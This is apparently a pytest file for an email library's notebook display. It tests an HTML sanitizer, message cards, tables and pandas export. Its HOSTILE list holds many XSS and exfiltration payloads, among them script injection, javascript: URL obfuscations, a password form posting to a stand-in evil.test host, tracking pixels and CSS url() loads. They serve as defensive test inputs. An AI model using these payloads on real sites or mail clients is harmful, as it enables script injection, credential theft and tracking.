"""What a notebook shows: the message card and its html sanitizer (a security boundary, tested
with hostile html), the tables of messages, folders, headers and reports, and to_pandas()."""

from __future__ import annotations

import base64
import re
import time
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mailsync
from mailsync import _notebook
from mailsync._notebook import sanitize_html

DATA = Path(__file__).parent / "data"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)


@pytest.fixture
def zone(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Local time is Europe/Paris for the test (dates are shown in the local zone)."""
    monkeypatch.setenv("TZ", "Europe/Paris")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


# -- the sanitizer: hostile html -------------------------------------------------------------

ALLOWED_TAGS = _notebook._TAGS
GLOBAL_ATTRIBUTES = _notebook._ATTRIBUTES["*"]
SAFE_IMAGE = re.compile(r"data:image/(png|gif|jpeg|webp);base64,[A-Za-z0-9+/=\s]*\Z")


class Audit(HTMLParser):
    """Fails on anything in sanitized html that could run code or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = GLOBAL_ATTRIBUTES | _notebook._ATTRIBUTES.get(tag, set())
        allowed |= {"target", "rel"} if tag == "a" else set()
        for name, value in attrs:
            value = value or ""
            if name not in allowed or name.startswith("on"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href" and not re.match(r"(https?://|mailto:)", value):
                self.problems.append(f"href {value!r}")
            if name == "src" and value != _notebook._PLACEHOLDER and not SAFE_IMAGE.match(value):
                self.problems.append(f"src {value[:60]!r}")
            if name == "style":
                self.problems.extend(_style_problems(value))
            if name != "href" and "://" in value:
                self.problems.append(f"a URL in {name} on <{tag}>")

    handle_startendtag = handle_starttag


def _style_problems(style: str) -> list[str]:
    problems = []
    lowered = style.lower()
    for bad in ("url", "expression", "import", "\\", "image", "position", "behavior", "binding"):
        if bad in lowered:
            problems.append(f"style {style!r}")
    for declaration in filter(None, (d.strip() for d in style.split(";"))):
        prop = declaration.split(":", 1)[0].strip().lower()
        if prop not in _notebook._STYLE_PROPERTIES:
            problems.append(f"style property {prop!r}")
    return problems


def assert_safe(cleaned: str) -> None:
    audit = Audit()
    audit.feed(cleaned)
    audit.close()
    assert not audit.problems, (audit.problems, cleaned)
    lowered = cleaned.lower()
    for marker in ("<script", "javascript:", "vbscript:", "<iframe", "<svg", "<style", "<meta"):
        assert marker not in lowered, cleaned
    # A URL outside an attribute is text (hostile markup that broke a tag leaves its CSS as
    # words on the page), which loads nothing: the audit above looks at every attribute.


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)" ONCLICK=alert(1)>hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="/relative/to/the/notebook/server">x</a>',
    '<iframe src="https://evil.test/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="https://evil.test/"></frameset>',
    '<form action="https://evil.test/steal"><input name=p type=password><button>Go</button></form>',
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test/b)}</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    '<div style="background-image: url(https://evil.test/pixel.gif)">x</div>',
    '<div style="background: url(&quot;https://evil.test/x&quot;)">x</div>',
    '<div style="background:u\\72l(https://evil.test/x)">x</div>',
    '<div style="background:url/**/(https://evil.test/x)">x</div>',
    '<div style="list-style: url(https://evil.test/x)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.test/x.xml#x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">over</div>',
    '<div style="color:red;background-color:rgb(1,2,3)">kept</div>',
    '<img src="https://evil.test/track.gif?u=alice">',
    '<img src="http://evil.test/track.gif">',
    '<img src="//evil.test/track.gif">',
    '<img src="/files/secret.png">',
    '<img srcset="https://evil.test/a.png 1x, https://evil.test/b.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<video poster="https://evil.test/p.png"><source src="https://evil.test/v.mp4"></video>',
    '<audio src="https://evil.test/a.mp3"></audio>',
    '<input type="image" src="https://evil.test/x.png">',
    '<table background="https://evil.test/bg.png"><tr><td background="https://evil.test/c">x',
    '<svg onload="alert(1)"><image href="https://evil.test/x.png"/></svg>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror="alert(1)"></template>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="https://ok.test/" ping="https://evil.test/ping">ok</a>',
    '<img id="getElementById" name="cookie" class="jp-Notebook" src=x>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<xml><script>alert(1)</script></xml>",
    '<div style="background:url(https://evil.test/x)" onclick=alert(1)><img src=x></div>',
    "<p>plain <b>bold</b> &amp; <a href='mailto:bob@example.test'>mail</a></p>",
    '<img src="cid:logo" alt="logo">',
    '<img src="CID:%3Clogo%3E">',
    '<img src="cid:missing@example.test">',
    "<object><param name=src value=https://evil.test/></object>",
    '<a href="https://ok.test/" target="_top">ok</a>',
    "\ud800<p>lone surrogate</p>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_sanitized_html_can_neither_run_nor_load_anything(markup: str) -> None:
    assert_safe(sanitize_html(markup, {"logo": "data:image/png;base64,AAAA"}))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=6), st.text(max_size=20))
def test_any_mix_of_hostile_fragments_stays_safe(parts: list[str], noise: str) -> None:
    assert_safe(sanitize_html(noise.join(parts)))


def test_what_is_safe_is_kept() -> None:
    cleaned = sanitize_html(
        '<p style="color:red; position:fixed">Hi <b>Bob</b></p>'
        '<a href="https://example.test/a?b=1">link</a>'
        '<table><tr><td colspan="2">cell</td></tr></table>'
        '<img src="data:image/png;base64,AAAA" alt="dot">'
    )
    assert "<b>Bob</b>" in cleaned
    assert 'style="color:red"' in cleaned  # position dropped, colour kept
    assert 'href="https://example.test/a?b=1"' in cleaned
    assert 'target="_blank"' in cleaned
    assert "noopener" in cleaned
    assert 'colspan="2"' in cleaned
    assert 'src="data:image/png;base64,AAAA"' in cleaned


def test_remote_images_become_a_placeholder_and_cid_images_are_inlined() -> None:
    images = {"logo@example.test": "data:image/png;base64,AAAA"}
    cleaned = sanitize_html(
        '<img src="https://evil.test/pixel.gif"><img src="cid:Logo@Example.test">'
        '<img src="cid:%3Clogo@example.test%3E"><img src="cid:other">',
        images,
    )
    sources = re.findall(r'src="([^"]*)"', cleaned)
    assert sources == [
        _notebook._PLACEHOLDER,
        "data:image/png;base64,AAAA",
        "data:image/png;base64,AAAA",
        _notebook._PLACEHOLDER,
    ]


def _html_message(html: str, *, images: dict[str, tuple[bytes, str]] | None = None) -> bytes:
    message = EmailMessage()
    message["From"] = "Alice Example <Alice@Example.test>"
    message["To"] = "Bob <bob@example.test>, carol@example.test"
    message["Cc"] = "Dan <dan@example.test>"
    message["Subject"] = "Report <Q3> & more"
    message["Date"] = "Sun, 01 Mar 2026 13:05:00 +0000"
    message["Message-ID"] = "<card-1@example.test>"
    message.set_content("The text part.\n")
    message.add_alternative(html, subtype="html")
    html_part = message.get_payload()[1]  # type: ignore[index]
    for cid, (data, subtype) in (images or {}).items():
        html_part.add_related(data, "image", subtype, cid=f"<{cid}>")
    message.add_attachment(b"x" * 12_345, "application", "pdf", filename="report.pdf")
    return bytes(message)


def test_card_shows_the_headers_the_flags_the_attachments_and_the_cid_image(zone: None) -> None:
    raw = _html_message(
        '<p>Chart: <img src="cid:chart@example.test"> tracker: '
        '<img src="https://evil.test/t.gif"></p><script>alert(1)</script>',
        images={"chart@example.test": (PNG, "png")},
    )
    message = mailsync.Message.from_bytes(
        raw, folder="Archive/2026", flags={"\\Flagged"}, labels={"work"}
    )
    card = message._repr_html_()
    assert "Report &lt;Q3&gt; &amp; more" in card
    assert "Alice Example &lt;Alice@Example.test&gt;" in card
    assert "Bob &lt;bob@example.test&gt;, carol@example.test" in card
    assert "Dan &lt;dan@example.test&gt;" in card
    assert "2026-03-01 14:05 CET" in card  # local time, with its zone
    assert "Archive/2026" in card
    assert "unread" in card
    assert "flagged" in card
    assert "work" in card
    assert "report.pdf · 12.3 kB" in card
    assert "data:image/png;base64," + base64.b64encode(PNG).decode() in card
    assert _notebook._PLACEHOLDER in card
    assert "<script" not in card
    assert "alert(1)" not in card
    assert "The text part." not in card  # the html part is the one shown


def test_card_without_nh3_shows_the_text_part_and_never_the_html(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_notebook, "_nh3", lambda: None)
    raw = _html_message('<p onclick="steal()">HTML ONLY <img src="https://evil.test/t"></p>')
    card = mailsync.Message.from_bytes(raw)._repr_html_()
    assert "The text part." in card
    assert "HTML ONLY" not in card
    assert "evil.test" not in card
    assert "onclick" not in card
    assert "mailsync[notebook]" in card  # says how to see the html
    with pytest.raises(ImportError, match="nh3"):
        sanitize_html("<p>x</p>")


def test_card_without_nh3_for_an_html_only_message_shows_no_html(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_notebook, "_nh3", lambda: None)
    message = mailsync.Message.from_bytes((DATA / "mime" / "html-only.eml").read_bytes())
    assert message.html
    assert not message.text
    card = message._repr_html_()
    body = card.split("overflow:auto;contain:content", 1)[1]
    assert "<p>" not in body.replace('<p style="opacity:.7">', "")
    assert "nh3" in body


def test_card_for_text_and_for_header_only_messages() -> None:
    raw = b"From: a@example.test\r\nSubject: plain\r\n\r\n<script>not html</script>\r\n"
    card = mailsync.Message.from_bytes(raw, flags={"\\Seen"})._repr_html_()
    assert "&lt;script&gt;not html&lt;/script&gt;" in card
    assert "unread" not in card
    assert "read" in card
    header_only = mailsync.Message.from_bytes(raw, headers_only=True)._repr_html_()
    assert "headers only" in header_only


# -- tables ----------------------------------------------------------------------------------


def _plain(n: int, **attributes: object) -> mailsync.Message:
    raw = (
        f"From: Sender {n} <s{n}@example.test>\r\nTo: r@example.test\r\n"
        f"Subject: number {n}\r\nDate: Sun, 01 Mar 2026 13:0{n % 10}:00 +0000\r\n\r\nbody\r\n"
    ).encode()
    return mailsync.Message.from_bytes(raw, **attributes)


def test_message_table_marks_unread_flagged_and_attachments(zone: None) -> None:
    with_file = mailsync.Message.from_bytes(_html_message("<p>x</p>"), flags={"\\Seen"})
    listing = mailsync.MessageList(
        [_plain(1, folder="Work"), _plain(2, flags={"\\Seen", "\\Flagged"}), with_file]
    )
    table = listing._repr_html_()
    rows = re.findall(r"<tr[^>]*>.*?</tr>", table.split("<tbody>", 1)[1])
    assert "font-weight:bold" in rows[0]
    assert "font-weight:bold" not in rows[1]
    assert "⚑" in rows[1]
    assert "📎" in rows[2]
    assert "📎" not in rows[0]
    assert "Work" in rows[0]
    assert "2026-03-01 14:01 CET" in rows[0]
    assert 'title="s1@example.test"' in rows[0]
    assert ">Sender 1<" in rows[0]
    assert "3 messages, 1 unread" in table


def test_message_table_is_capped_with_the_count_of_the_rest() -> None:
    listing = mailsync.MessageList(_plain(n) for n in range(_notebook.MAX_ROWS + 7))
    table = listing._repr_html_()
    assert table.count("number ") == _notebook.MAX_ROWS
    assert "… 7 more" in table


def test_folders_headers_and_reports_render_as_html() -> None:
    folders = mailsync.FolderList(
        [
            mailsync.Folder("INBOX", "/"),
            mailsync.Folder("Archive", "/", flags=frozenset({"\\Noselect"})),
            mailsync.Folder("Archive/<2026>", "/", "\\Archive"),
        ]
    )
    table = folders._repr_html_()
    assert "3 folders" in table
    assert "&lt;2026&gt;" in table
    assert "(no mail)" in table
    assert "padding-left:1.2em" in table  # nested under Archive

    message = _plain(1)
    headers = message.headers._repr_html_()
    assert "<b>Subject</b>" in headers
    assert "number 1" in headers

    report = mailsync.parse_report((DATA / "reports" / "exim-dsn.eml").read_bytes())
    assert report is not None
    shown = report._repr_html_()
    assert report.recipients[0].recipient in shown
    assert report.recipients[0].action in shown
    assert "DSN" in shown


# -- pandas ----------------------------------------------------------------------------------


def test_to_pandas_has_typed_columns() -> None:
    pd = pytest.importorskip("pandas")
    bob = b"From: Bob <Bob@Example.TEST>\r\nTo: A <A@x.test>, b@x.test\r\n"
    messages = mailsync.MessageList(
        [
            mailsync.Message.from_bytes(
                bob + b"Date: Sun, 01 Mar 2026 13:05:00 +0100\r\nSubject: one\r\n\r\nx",
                flags={"\\Seen", "\\Answered"},
                labels={"b", "a"},
                thread_id="t1",
            ),
            mailsync.Message.from_bytes(b"From: bob@example.test\r\nSubject: two\r\n\r\ny"),
            mailsync.Message.from_bytes(_html_message("<p>x</p>")),
            mailsync.Message.from_bytes(
                b"From: c@x.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n",
                headers_only=True,
                size=5000,
            ),
        ]
    )
    frame = messages.to_pandas()
    assert list(frame.columns) == list(_notebook.DATAFRAME_COLUMNS)
    assert str(frame["date"].dt.tz) == "UTC"
    assert frame["date"][0] == pd.Timestamp("2026-03-01 12:05", tz="UTC")
    assert pd.isna(frame["date"][1])
    assert frame["size"].dtype == "int64"
    assert frame["size"][3] == 5000
    # One sender, however it was written: groupby("from_email") keeps them together.
    assert frame["from_email"][0] == frame["from_email"][1] == "bob@example.test"
    assert frame["from_name"][0] == "Bob"
    assert pd.isna(frame["from_name"][1])
    assert frame["to"][0] == ["a@x.test", "b@x.test"]
    assert frame["flags"][0] == ["\\Answered", "\\Seen"]
    assert frame["labels"][0] == ["a", "b"]
    assert frame["seen"].tolist() == [True, False, False, False]
    assert frame["answered"].dtype == bool
    assert frame["has_attachments"].tolist()[:3] == [False, False, True]
    assert pd.isna(frame["has_attachments"][3])  # headers only: cannot tell
    assert frame["thread_id"][0] == "t1"
    assert pd.isna(frame["thread_id"][1])
    assert frame["message_id"][2] == "card-1@example.test"
    assert frame.groupby("from_email").size()["bob@example.test"] == 2


def test_to_pandas_of_nothing_has_the_columns() -> None:
    pytest.importorskip("pandas")
    frame = mailsync.MessageList().to_pandas()
    assert list(frame.columns) == list(_notebook.DATAFRAME_COLUMNS)
    assert len(frame) == 0


def test_to_pandas_without_pandas_says_which_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ImportError, match=r"mailsync\[pandas\]"):
        mailsync.MessageList().to_pandas()


def test_a_slice_of_a_message_list_is_still_a_message_list() -> None:
    listing = mailsync.MessageList(_plain(n) for n in range(5))
    assert isinstance(listing[1:3], mailsync.MessageList)
    assert [m.subject for m in listing[-2:]] == ["number 3", "number 4"]
    assert isinstance(listing[0], mailsync.Message)
